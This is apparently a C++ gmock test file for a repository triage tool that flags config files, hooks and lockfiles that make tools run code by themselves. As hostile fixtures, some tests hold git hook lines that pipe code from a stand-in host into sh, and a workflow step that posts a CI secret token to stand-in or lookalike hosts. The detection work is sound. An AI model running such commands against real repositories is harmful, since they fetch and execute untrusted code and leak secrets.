// Triage, with the real tools: settings by which a tool runs something, and settings that no rule knows.
#include <gmock/gmock.h>

#include "subagents/playbook/triage_settings.h"
#include "tests/subagents/playbook_repo.h"
#include "tests/subagents/triaged_folder.h"

namespace paddock::subagents {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::StartsWith;

constexpr char kNothing[] = "nothing found that runs by itself";
constexpr char kConfig[] = "[core]\n\tbare = false\n";

TEST(PlaybookTriageSettings, WhatAToolRunsByItsSettingsIsTold) {
  const struct {
    const char *path, *text, *label;
  } cases[] = {
      {"Cargo.toml", "[package]\nname=\"x\"\nbuild = \"gen/make.rs\"\n", "build-rs"},
      {"Cargo.toml", "dependencies.far = { git = \"https://example.org/x\" }\n[package]\nname=\"x\"\n", "cargo"},
      {"Cargo.toml", "[package]\nname=\"x\"\n[lib]\nproc_macro = true\n", "proc-macro"},
      {"rust-toolchain.toml", "[toolchain]\npath = \"./tc\"\n", "rust-toolchain"},
      {".devcontainer/devcontainer.json", "{\"dockerComposeFile\":\"x.yml\",\"runArgs\":[\"-v\",\"/:/h\"]}\n", "devcontainer-mount"},
      {".dir-locals.el", "((nil . ((flycheck-c/c++-gcc-executable . \"./x\"))))\n", "dir-locals"},
      {".pylintrc", "[MASTER]\ninit-hook=\"open('x','w')\"\n", "tool-loads"},
      {"pytest.ini", "[pytest]\naddopts = -p far\n", "tool-loads"},
      {"mypy.ini", "[mypy]\nplugins = ./far.py\n", "tool-loads"},
      {".rspec", "--require ./far\n", "rspec-loads"},
      {".rubocop.yml", "require:\n  - ./far\n", "tool-loads"},
      {".rubocop.yml", "<% `touch x` %>\n", "tool-loads"},
      {".eslintrc.json", "{\n  \"plugins\": [\"./far.js\"]\n}\n", "tool-loads"},
      {"tox.ini", "[testenv]\ncommands = touch x\n", "tox"},
      {".rvmrc", "touch x\n", "rvmrc"},
      {"pyproject.toml", "[tool.poetry]\nname=\"x\"\nbuild = \"build.py\"\n", "build-script"},
      {"pyproject.toml", "[tool.setuptools.dynamic]\nversion = {attr = \"far.v\"}\n", "version-attribute"},
      {"setup.cfg", "[metadata]\nversion=attr: far.v\n", "version-attribute"},
      {"package.json", "{\"scripts\":{\"prepack\":\"./far\"}}\n", "npm-pack-script"},
      {"package.json", "{\"packageManager\":\"yarn@https://far.example/yarn.js\"}\n", "package-manager-url"},
      {"pnpm-workspace.yaml", "packages: [a]\nscriptShell: ./far\n", "pnpm-runs"},
      {".npmrc", "node_options = --require ./far.js\n", "npmrc-runs"},
      {".npmrc", "NODE-OPTIONS=--require ./far.js\n", "npmrc-runs"},
      {"package-lock.json", "{\"packages\":{\"node_modules/left\":{\"resolved\":\"https://far.example/left.tgz\"}}}\n", "locked-elsewhere"},
      {"yarn.lock", "left@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://far.example/left.tgz#0\"\n", "locked-elsewhere"},
      {"A.xcodeproj/xcshareddata/xcschemes/A.xcscheme", "<Scheme><ActionContent scriptText=\"touch x\"/></Scheme>\n", "xcode-scheme"},
      {"Doxyfile", "INPUT_FILTER = ./far\n", "doxygen-filter"},
      {".hg/hgrc", "[hooks]\nupdate = ./far\n", "hg-settings"},
      {".fleet/run.json", "{\"configurations\":[{\"type\":\"command\",\"program\":\"./far\"}]}\n", "editor-settings"},
      {"deps/build.jl", "touch(\"x\")\n", "julia-build"},
      {"a/b.py", "# coding: utf-7\n+AGEAPQ-1\n", "odd-encoding"},
  };
  for (const auto& one : cases) {
    const Report report = TriageOf({{one.path, one.text}, {"main.c", "int main(void) { return 0; }\n"}});
    EXPECT_THAT(report.data.dump(), HasSubstr(std::string("\"") + one.label + "\"")) << one.path << report.summary;
    EXPECT_THAT(Titles(report), Not(HasSubstr("no rule of triage knows"))) << one.path;
  }
}

TEST(PlaybookTriageSettings, AProgramThatAToolRunsByItsNameIsTold) {
  for (const char* path : {"noxfile.py", "conanfile.py", "hatch_build.py", "rakefile", "Rakefile.rb", "gems.rb", "Vagrantfile", "Brewfile", "Dangerfile", ".irbrc", ".pryrc", "package.yaml", "yarn.config.cjs", "jest.config.ts", ".eslintrc.cjs", "gulpfile.js",
                           "karma.conf.js", "CMakePresets.json", "dune", "x.opam", "phpunit.xml.dist", "platformio.ini"}) {
    const Report report = TriageOf({{path, "something = 1\n"}, {"main.c", "int main(void) { return 0; }\n"}});
    EXPECT_EQ(VerdictOf(report), "runs on install or build") << path << report.summary;
    EXPECT_THAT(report.data.dump(), HasSubstr("program-by-name")) << path;
  }
}

TEST(PlaybookTriageSettings, SettingsThatNoRuleKnowsAreTold) {
  const Report report = TriageOf({{".unheardrc", "run = it\n"}, {"tool.toml", "[run]\nwith = \"it\"\n"}, {".toolbox/main.lua", "return 1\n"}, {"Mysteryfile", "run it\n"}, {"main.c", "int main(void) { return 0; }\n"}});
  EXPECT_EQ(VerdictOf(report), kNothing);
  EXPECT_THAT(report.summary, StartsWith("Nothing known found that runs by itself; 4 settings files are unknown to triage: .toolbox/main.lua, .unheardrc, Mysteryfile, tool.toml. Look at them before you open, install or build it.")) << report.summary;
  EXPECT_THAT(Titles(report), HasSubstr("4 settings files that no rule of triage knows"));
  EXPECT_EQ(WorstOf(report, kUnknownSettings), Severity::kInfo);
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].evidence.size(), 4u);
}

TEST(PlaybookTriageSettings, UnknownSettingsAreToldBesideWhatRuns) {
  const Report report = TriageOf({{"packages/a/package.json", "{\n  \"scripts\": {\n    \"install\": \"node x.js\"\n  }\n}\n"}, {"packages/a/strange.toml", "run = \"it\"\n"}});
  EXPECT_EQ(VerdictOf(report), "runs on install or build");
  EXPECT_THAT(report.summary, HasSubstr("1 settings file is unknown to triage: packages/a/strange.toml."));
}

TEST(PlaybookTriageSettings, HarmlessNamesAndDataAreNone) {
  const Report report = TriageOf({{".gitignore", "x\n"}, {".editorconfig", "root = true\n"}, {".clang-format", "BasedOnStyle: Google\n"}, {"codecov.yml", "a: b\n"}, {".prettierrc", "semi: false\n"}, {"tsconfig.json", "{\n  \"strict\": true\n}\n"}, {".github/FUNDING.yml", "a: b\n"},
                                  {"LICENSE", "Free.\n"}, {".nvmrc", "20\n"}, {"Dockerfile", "FROM x\n"}, {"tests/data/.oddrc", "x = 1\n"}, {"src/data/table.json", "{\n  \"a\": 1\n}\n"}, {"vendor/x/.oddrc", "x = 1\n"}});
  EXPECT_THAT(report.summary, StartsWith("Nothing found that runs by itself, as far as these rules know.")) << report.summary;
  EXPECT_THAT(report.findings, IsEmpty());
}

TEST(PlaybookTriageSettings, WhatWaitsToBeAskedForIsNotNothing) {
  EXPECT_THAT(TriageOf({{".vscode/tasks.json", "{\"tasks\":[{\"label\":\"x\",\"command\":\"make\"}]}\n"}}).summary, StartsWith("Nothing found that runs by itself: what is told below waits until somebody asks for it or allows it."));
}

TEST(PlaybookTriageSettings, UsualRegistriesAreNoForeignPlaces) {
  std::string lock;
  for (const char* host : {"registry.npm" "js.org", "registry.yarn" "pkg.com"}) lock += std::string("left@^1.0.0:\n  resolved \"https://") + host + "/left/-/left-1.0.0.tgz#0\"\n";
  EXPECT_THAT(TriageOf({{"yarn.lock", lock}}).data.dump(), Not(HasSubstr("locked-elsewhere")));
  for (const char* host : {"registry.npm" "js.org.example", "registry.example", "npm" "js.org", "registry.yarn" "pkg.comx"}) EXPECT_THAT(TriageOf({{"yarn.lock", std::string("left@^1.0.0:\n  resolved \"https://") + host + "/left.tgz#0\"\n"}}).data.dump(), HasSubstr("locked-elsewhere")) << host;
}

constexpr char kPreCommit[] =
    "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n# ID: 138fd403232d2ddd5efb44317e38bf03\n\n# start templated\nINSTALL_PYTHON=/home/u/venv/bin/python3.12\n"
    "ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n# end templated\n\nHERE=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\nARGS+=(--hook-dir \"$HERE\" -- \"$@\")\n\n"
    "if [ -x \"$INSTALL_PYTHON\" ]; then\n    exec \"$INSTALL_PYTHON\" -mpre_commit \"${ARGS[@]}\"\nelif command -v pre-commit > /dev/null; then\n    exec pre-commit \"${ARGS[@]}\"\nelse\n"
    "    echo '`pre-commit` not found.  Did you forget to activate your virtualenv?' 1>&2\n    exit 1\nfi\n";

TEST(PlaybookTriageSettings, AHookThatPreCommitWroteIsNotHostile) {
  const std::map<std::string, std::string> files = {{".git/HEAD", "ref: refs/heads/main\n"}, {".git/config", kConfig}, {".git/hooks/pre-commit", kPreCommit}};
  // It is installed: what the repository's settings say is run at the next commit.
  EXPECT_EQ(VerdictOf(TriageOf(files)), "runs on open") << TriageOf(files).summary;
  for (const char* line : {"curl https://far.example\n", "INSTALL_PYTHON=./python3\n", "INSTALL_PYTHON=/tmp/../x/python3\n", "exec ./far\n"}) {
    auto changed = files;
    changed[".git/hooks/pre-commit"] += line;
    EXPECT_EQ(VerdictOf(TriageOf(changed)), "hostile signs") << line;
  }
}

TEST(PlaybookTriageSettings, HooksThatHuskyWroteAreNotHostile) {
  std::map<std::string, std::string> files = {
      {".git/HEAD", "ref: refs/heads/main\n"},
      {".git/config", std::string(kConfig) + "\thooksPath = .husky/_\n"},
      {".husky/_/pre-commit", "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n"},
      {".husky/_/h", "#!/usr/bin/env sh\n[ \"$HUSKY\" = \"2\" ] && set -x\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n\n[ ! -f \"$s\" ] && exit 0\n\nif [ -f \"$HOME/.huskyrc\" ]; then\n"
                     "\techo \"husky - '~/.huskyrc' is DEPRECATED, please move your code to ~/.config/husky/init.sh\"\nfi\ni=\"${XDG_CONFIG_HOME:-$HOME/.config}/husky/init.sh\"\n[ -f \"$i\" ] && . \"$i\"\n\n"
                     "[ \"${HUSKY-}\" = \"0\" ] && exit 0\n\nexport PATH=\"node_modules/.bin:$PATH\"\nsh -e \"$s\" \"$@\"\nc=$?\n\n[ $c != 0 ] && echo \"husky - $n script failed (code $c)\"\n"
                     "[ $c = 127 ] && echo \"husky - command not found in PATH=$PATH\"\nexit $c\n"},
      {".husky/pre-commit", "npx lint-staged\n"}};
  EXPECT_EQ(VerdictOf(TriageOf(files)), "runs on open") << TriageOf(files).summary;
  files[".husky/pre-commit"] = "curl https://far.example/x | sh\n";
  EXPECT_EQ(VerdictOf(TriageOf(files)), "hostile signs");
  files = {{".git/HEAD", "ref: refs/heads/main\n"}, {".git/config", std::string(kConfig) + "\thooksPath = .husky/../x\n"}};
  EXPECT_EQ(VerdictOf(TriageOf(files)), "hostile signs");
}

TEST(PlaybookTriageSettings, ATokenGivenToTheServiceItIsForIsNotGivenAway) {
  const auto with = [](const std::string& run) { return TriageOf({{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: " + run + "\n"}}); };
  const std::string token = " --post-data \"token=${{ secrets.TOKEN }}\"";
  EXPECT_NE(VerdictOf(with("wget -q https://scan.coverity.com/download/cxx/linux64" + token)), "hostile signs");
  for (const char* where : {"https://far.example/x", "https://scan.coverity.com.far.example/x", "https://scan.coverity.com/a https://far.example/x", "https://far.example/?https://scan.coverity.com/"}) EXPECT_EQ(VerdictOf(with(std::string("wget -q ") + where + token)), "hostile signs") << where;
}

}  // namespace
}  // namespace paddock::subagents
